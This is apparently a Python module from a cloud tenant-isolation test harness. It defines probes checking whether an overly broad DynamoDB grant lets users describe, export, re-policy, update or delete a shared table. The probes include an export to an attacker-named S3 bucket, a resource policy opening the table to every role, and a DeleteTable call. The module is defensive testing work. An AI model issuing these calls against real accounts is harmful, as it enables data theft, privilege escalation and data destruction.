"""Reaching for whole tables: what a grant that is too wide lets users administer.

Nothing here changes a table for good. A request asks for what the table already is, or for what it cannot be asked for
as long as it is protected, so that an error behind authorization shows that authorization let it through; what does
change something is put back.
"""

from __future__ import annotations

import json
from functools import partial
from typing import TYPE_CHECKING

from harness.attacks.reach.item_calls import item_call
from harness.attacks.technique import ControlKind, Feature, Severity, Technique, Victim
from harness.blueprints.contract import Effect

if TYPE_CHECKING:
    from collections.abc import Sequence

    from harness.attacks.aim import Aim
    from harness.targets.api import ApiRequest, ApiResponse

_ACTIONS = "https://docs.aws.amazon.com/service-authorization/latest/reference/list_amazondynamodb.html"
_EXPORT = "https://docs.aws.amazon.com/amazondynamodb/latest/developerguide/S3DataExport.HowItWorks.html"
_POLICIES = "https://docs.aws.amazon.com/amazondynamodb/latest/developerguide/access-control-resource-based.html"


def _arn(aim: Aim) -> str:
    deployment = aim.deployment
    return f"arn:aws:dynamodb:{deployment.region}:{deployment.account}:table/{aim.table}"


def _open_to_every_role(aim: Aim) -> tuple[ApiRequest, ...]:
    statement = {
        "Effect": "Allow",
        "Principal": {"AWS": sorted(aim.deployment.roles.values())},
        "Action": "dynamodb:Scan",
        "Resource": _arn(aim),
    }
    document = json.dumps({"Version": "2012-10-17", "Statement": [statement]})
    return (
        # A policy that the design has is never replaced.
        *item_call("PutResourcePolicy", ResourceArn=_arn(aim), Policy=document, ExpectedRevisionId="NO_POLICY"),
        *item_call("Scan", TableName=aim.table),
    )


def _answered_as_foretold(_: Aim, __: Sequence[ApiResponse]) -> bool:
    """Tell that the operator's request was performed, or met the error behind authorization that is foretold."""
    return True


_ADMINISTER = partial(
    Technique,
    plane="dynamodb",
    severity=Severity.BLOCKER,
    documentation=_ACTIONS,
    catalogue=("ddb-table-level-actions-via-wildcard",),
    control=ControlKind.OPERATOR,
    victim=Victim.NOBODY,
    requires=frozenset({Feature.TABLE}),
    cwe=("CWE-732", "CWE-269"),
    shows=_answered_as_foretold,
)

TECHNIQUES = (
    _ADMINISTER(
        id="dynamodb.read.describe-table",
        title="DescribeTable of the table that all tenants share",
        effect=Effect.READ,
        severity=Severity.MINOR,
        operation="DescribeTable",
        actions=("dynamodb:DescribeTable",),
        shows=lambda aim, answers: bool(answers[0].data["Table"]["TableName"] == aim.table),
        steps=lambda aim: item_call("DescribeTable", TableName=aim.table),
    ),
    # No table here keeps what an export needs, so none begins.
    _ADMINISTER(
        id="dynamodb.read.export-table",
        title="export of the whole table to a bucket of the attacker's",
        effect=Effect.READ,
        operation="ExportTableToPointInTime",
        actions=("dynamodb:ExportTableToPointInTime",),
        documentation=_EXPORT,
        destructive=True,
        passes=("^PointInTimeRecoveryUnavailableException:",),
        steps=lambda aim: item_call(
            "ExportTableToPointInTime", TableArn=_arn(aim), S3Bucket="isolation-harness-attacker"
        ),
    ),
    _ADMINISTER(
        id="dynamodb.write.put-resource-policy",
        title="a resource policy that opens the table to every role, and a Scan by its leave",
        effect=Effect.WRITE,
        operation="PutResourcePolicy",
        actions=("dynamodb:PutResourcePolicy",),
        catalogue=("ddb-table-level-actions-via-wildcard", "ddb-resource-policy-widens"),
        documentation=_POLICIES,
        destructive=True,
        passes=("^PolicyNotFoundException:",),
        clean_up=lambda aim: item_call("DeleteResourcePolicy", ResourceArn=_arn(aim)),
        steps=_open_to_every_role,
    ),
    _ADMINISTER(
        id="dynamodb.write.update-table",
        title="UpdateTable that leaves the table as it is",
        effect=Effect.WRITE,
        operation="UpdateTable",
        actions=("dynamodb:UpdateTable",),
        destructive=True,
        steps=lambda aim: item_call("UpdateTable", TableName=aim.table, DeletionProtectionEnabled=True),
    ),
    _ADMINISTER(
        id="dynamodb.write.update-time-to-live",
        title="UpdateTimeToLive that leaves expiry off",
        effect=Effect.WRITE,
        operation="UpdateTimeToLive",
        actions=("dynamodb:UpdateTimeToLive",),
        destructive=True,
        passes=("^ValidationException: TimeToLive is already disabled",),
        steps=lambda aim: item_call(
            "UpdateTimeToLive",
            TableName=aim.table,
            TimeToLiveSpecification={"Enabled": False, "AttributeName": "expires"},
        ),
    ),
    _ADMINISTER(
        id="dynamodb.write.delete-table",
        title="DeleteTable of a table that is protected against it",
        effect=Effect.WRITE,
        operation="DeleteTable",
        actions=("dynamodb:DeleteTable",),
        destructive=True,
        passes=("^ValidationException: Resource cannot be deleted as it is currently protected against deletion",),
        steps=lambda aim: item_call("DeleteTable", TableName=aim.table),
    ),
)
